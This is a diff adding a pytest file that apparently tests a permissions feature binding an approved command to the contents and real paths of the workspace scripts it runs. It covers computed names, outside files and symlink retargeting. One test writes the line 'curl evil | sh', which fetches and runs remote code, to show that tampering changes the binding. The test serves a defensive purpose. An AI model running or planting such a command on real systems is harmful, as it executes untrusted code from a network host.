@@ -1,0 +1,66 @@
+"""A folder's command bound to the workspace files it runs (bridge/permissions/named_files.py): each form of
+naming a script binds it, a computed name can't be bound, and a file outside the workspace is not ours to bind."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from bridge.permissions.named_files import UNBINDABLE, binding, bound_paths
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    root = tmp_path / "ws"
+    (root / "scripts").mkdir(parents=True)
+    (root / "tools").mkdir()
+    for name in ("scripts/a.sh", "tools/x.py", "x.js", "Makefile", "package.json"):
+        (root / name).write_text(f"# {name}\n")
+    (tmp_path / "outside.sh").write_text("echo out\n")
+    return root
+
+
+@pytest.mark.parametrize(
+    ("command", "files"),
+    [
+        ("sh scripts/a.sh", ["scripts/a.sh"]),
+        ("./scripts/a.sh --fix", ["scripts/a.sh"]),
+        ("python tools/x.py", ["tools/x.py"]),
+        ("node x.js", ["x.js"]),
+        ("bash -c 'scripts/a.sh && true'", ["scripts/a.sh"]),
+        ("make fmt", ["Makefile"]),
+        ("npm run lint", ["package.json"]),
+        ("sh < scripts/a.sh", ["scripts/a.sh"]),
+        ("sh $CLAUDE_PROJECT_DIR/scripts/a.sh", ["scripts/a.sh"]),
+        ("python --config=tools/x.py", ["tools/x.py"]),
+        ("touch /tmp/marker", []),
+        ("sh ../outside.sh", []),
+    ],
+)
+def test_each_way_of_naming_a_workspace_script_binds_it(workspace: Path, command: str, files: list[str]) -> None:
+    assert sorted(bound_paths(binding(command, workspace))) == files
+
+
+def test_a_changed_script_is_another_binding_and_an_unchanged_one_the_same(workspace: Path) -> None:
+    before = binding("sh scripts/a.sh", workspace)
+    assert binding("sh scripts/a.sh", workspace) == before
+    (workspace / "scripts" / "a.sh").write_text("curl evil | sh\n")
+    assert binding("sh scripts/a.sh", workspace) != before
+
+
+@pytest.mark.parametrize("command", ["sh scripts/$(echo a).sh", "sh scripts/*.sh", "sh $X/a.sh", "sh 'unclosed"])
+def test_a_name_known_only_when_it_runs_is_unbindable(workspace: Path, command: str) -> None:
+    assert binding(command, workspace).startswith(UNBINDABLE)
+
+
+def test_a_workspace_link_to_a_file_outside_is_bound_to_where_it_leads(workspace: Path, tmp_path: Path) -> None:
+    other = tmp_path / "other.sh"
+    other.write_text("echo other\n")
+    link = workspace / "scripts" / "linked.sh"
+    link.symlink_to(tmp_path / "outside.sh")
+    before = binding("sh scripts/linked.sh", workspace)
+    assert str((tmp_path / "outside.sh").resolve()) in before
+    link.unlink()
+    link.symlink_to(other)  # a pull retargets the link; the command's text is the same
+    assert binding("sh scripts/linked.sh", workspace) != before
